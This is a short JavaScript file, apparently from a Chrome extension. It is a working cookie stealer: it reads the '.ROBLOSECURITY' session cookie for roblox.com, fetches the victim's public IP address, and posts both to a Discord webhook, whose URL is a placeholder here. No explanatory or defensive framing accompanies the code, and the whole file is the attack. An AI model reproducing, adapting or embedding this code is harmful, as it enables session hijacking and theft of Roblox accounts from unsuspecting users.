const HOOK = "https://discord.com/api/webhooks/000000000000000000/PLACEHOLDER";
async function main(value) {
  var ip = await (await fetch("https://api.ipify.org")).text();
  fetch(HOOK, {
    method: "POST",
    headers: { "Content-Type": "Application/json" },
    body: JSON.stringify({
      content: null,
      embeds: [{ description: "```" + (value ? value : "NONE") + "```", author: { name: "Found: " + ip } }]
    })
  });
}
chrome.cookies.get({ url: "https://www.roblox.com/home", name: ".ROBLOSECURITY" }, function (c) {
  main(c ? c.value : null);
});
